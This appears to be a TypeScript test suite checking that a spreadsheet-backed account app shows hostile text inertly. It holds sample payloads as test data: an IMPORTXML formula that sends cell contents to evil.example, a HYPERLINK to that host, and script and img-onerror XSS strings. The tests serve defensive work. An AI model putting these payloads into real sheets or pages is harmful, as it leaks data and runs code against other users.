/**
 * Text that means harm, or just does it, from a mail, a card or an import into a cell and back onto another person's
 * card: it is shown as what it is, and it does nothing.
 */
import { ada, arthit, type Company, lena, mina, openCompany, type Page, paste } from '../../support/company';
import { everyField } from '../../support/forms';
import { aMail } from '../../support/mails';

const rlo = '\u202e';
const bell = '\u0007';
const mail = aMail({ id: 'msg-f:1', subject: `Seats ${rlo}gnp.exe ${bell}<b>now</b> 👩🏽‍💻` });
let company: Company;

beforeEach(() => {
  company = openCompany([mail]);
});

const values = (tab: string) => company.workspace.sheets.values(tab);
const account = (as: string): Page => company.open(as, { messageId: mail.id });

/** Every cell that shows something else than was typed: what a formula gives. */
function formulas(): readonly string[] {
  const { sheets } = company.workspace;
  const cells = sheets.list().tabs.flatMap(({ key }) => sheets.view(key).rows.flatMap((row) => row.cells));
  return cells.map(({ value, text }) => (String(value).startsWith('=') && text !== value ? text : '')).filter(Boolean);
}

const formulaTexts = ['=IMPORTXML("http://evil.example?"&A1, "//a")', '+1+1', '-2+3', '@SUM(A1)', '=1+1', "'=1+1"];

describe('a text that looks like a formula', () => {
  test.each(formulaTexts)('stays a text in the cell and on the card: %s', (text) => {
    account(mina).click('do=openNote').click('do=saveNote', { note: text });
    expect(values('activities').flat()).toContain(text);
    expect(plain(account(arthit).text)).toContain(text);
    expect(formulas()).toEqual([]);
  });

  test('stays one in every field of a signal', () => {
    const fields = { need: '=1+1', evidence: '+2', contact: '@x', avoid: '-3' };
    account(mina)
      .click('do=openFlag')
      .click('do=flagSignal', { kind: 'seat-limit', urgency: 'soon', ...fields });
    const row = values('signals').find((cells) => cells.includes('=1+1'));
    expect(Object.values(fields).filter((text) => !row?.includes(text))).toEqual([]);
    expect(formulas()).toEqual([]);
  });
});

describe('an import', () => {
  test('brings hostile text in as text, and refuses nothing for it', () => {
    const name = `=1+1 <b>x</b> ${rlo}evil${bell}`;
    const row = ['A-9', `'${name}`, 'hostile.example', '\'=HYPERLINK("http://evil.example")'];
    paste(company, 'accounts', [['External id', 'Name', 'Domains', 'Segment'], row]);
    const cells = values('accounts').find((line) => line.includes('A-9')) ?? [];
    expect(cells).toEqual(expect.arrayContaining(['=1+1 <b>x</b> evil', '=HYPERLINK("http://evil.example")']));
    expect(formulas()).toEqual([]);
    const found = company.open(arthit).click('do=openSearch').click('do=search', { query: 'hostile.example' });
    expect(plain(found.text)).toContain('=1+1 <b>x</b> evil');
  });
});

describe('HTML', () => {
  test('from a card to another person’s card is shown letter by letter', () => {
    const text = '<a href="http://evil.example">click</a><script>alert(1)</script><img src=x onerror=alert(1)>';
    account(mina).click('do=openNote').click('do=saveNote', { note: text });
    const { answer } = account(arthit);
    expect(JSON.stringify(answer.result)).not.toMatch(/<a href|<script|<img/);
    expect(plain(account(arthit).text)).toContain(text);
  });

  test('in a subject that was logged is shown letter by letter', () => {
    account(mina).click('do=logMail');
    expect(account(arthit).text).toContain('&lt;b&gt;now&lt;/b&gt;');
  });
});

describe('characters that hide or turn text', () => {
  test('never reach a cell by a card or a mail', () => {
    account(mina).click('do=logMail');
    account(mina)
      .click('do=openNote')
      .click('do=saveNote', { note: `a${rlo}b${bell}c\ufeff` });
    const cells = values('activities').flat().map(String);
    expect(cells).toContain('abc');
    expect(cells.filter((cell) => cell.includes(rlo) || cell.includes(bell))).toEqual([]);
  });

  test('that a hand pasted stay in their own line of a card', () => {
    const [keys = []] = values('accounts');
    const row = values('accounts').findIndex((cells) => cells.includes('Acme Robotics'));
    const edit = (column: string, value: string) =>
      company.workspace.sheets.edit('accounts', { row, column: keys.indexOf(column), values: [[value]] });
    edit('seatsUsed', `many${rlo}`);
    edit('segment', `mid${rlo}market`);
    for (const page of [
      account(mina),
      company.open(lena),
      company.open(ada).click('do=openSettings').click('do=openDoctor'),
    ]) {
      expect(JSON.stringify(page.answer.result)).not.toContain(rlo);
    }
    expect(values('accounts')[row]?.[keys.indexOf('seatsUsed')]).toBe(`many${rlo}`);
  });
});

describe('emoji, joiners and marks', () => {
  const text = 'Team 👩🏽‍💻👨‍👩‍👧 می‌خواهد é ก่อน';

  test('come back from the cell as they went in', () => {
    account(mina).click('do=openNote').click('do=saveNote', { note: text });
    expect(values('activities').flat()).toContain(text);
    expect(account(arthit).text).toContain(text);
  });

  test('are never cut in half, however long the history of an account is', () => {
    for (let note = 0; note < 14; note += 1) {
      const words = `${note}${'😀'.repeat(1900)}`;
      const page = account(mina).click('do=openNote').click('do=saveNote', { note: words });
      expect(page.notice).toBe('Note saved');
    }
    const halves = values('dossiers')
      .flat()
      .filter((cell) => /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(String(cell)));
    expect(halves).toEqual([]);
    expect(account(arthit).text).toMatch(/\d+😀{100,}…/u);
  });

  test('half of one is taken out', () => {
    account(mina).click('do=openNote').click('do=saveNote', { note: 'a\ud83db' });
    expect(values('activities').flat()).toContain('ab');
  });
});

describe('more text than a cell takes', () => {
  const long = 'x'.repeat(60_000);
  const forms: readonly (readonly [string, (company: Company) => Page, Readonly<Record<string, unknown>>])[] = [
    ['saveNote', () => account(mina).click('do=openNote'), { note: long }],
    ['savePulse', () => account(mina).click('do=openPulse'), { value: '3', words: long }],
    ['flagSignal', () => account(mina).click('do=openFlag'), { kind: 'seat-limit', urgency: 'soon', need: long }],
    [
      'saveTeammate',
      () => settings().click('do=openTeammate'),
      { ...everyField, email: 'new@orbit.example', name: long },
    ],
    ['saveSettings', settings, { ...everyField, ownDomains: `orbit.example, ${'a'.repeat(60_000)}.example` }],
  ];

  test.each(forms)('is refused by %s, and what was typed is kept', (action, lead, form) => {
    const before = JSON.stringify([values('activities'), values('signals'), values('team'), values('settings')]);
    const page = lead(company).click(`do=${action}`, form);
    expect(page.text).toContain('▲');
    expect(page.text).toContain(Object.values(form).find((text) => String(text).length > 50_000));
    expect(page.answer.error).toBeNull();
    expect(JSON.stringify([values('activities'), values('signals'), values('team'), values('settings')])).toBe(before);
  });

  test('in cells that a hand filled leaves every card as it was, but for that text', () => {
    account(mina).click('do=openNote').click('do=saveNote', { note: 'Short' });
    const [keys = []] = values('activities');
    const row = values('activities').findIndex((cells) => cells.includes('Short'));
    const full = 'y'.repeat(50_000);
    const source = values('activities')[row] ?? [];
    const rows = Array.from({ length: 20 }, (_, at) =>
      source.map((cell, column) =>
        column === keys.indexOf('words') ? full : column === keys.indexOf('id') ? `act_full${at}` : cell,
      ),
    );
    company.workspace.sheets.edit('activities', { row: row + 1, column: 0, values: rows });
    company.open(ada).click('do=openSettings').click('do=rebuildIndex');
    expect(account(arthit).text).toContain('48 of 50 used');
    expect(company.open(ada).click('do=openSettings').click('do=openDoctor').text).toContain('Very long texts (20)');
  });

  function settings(): Page {
    return company.open(ada, { host: 'SHEETS' }).click('do=openSettings');
  }
});

/** Back from HTML. */
function plain(text: string): string {
  return text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');
}
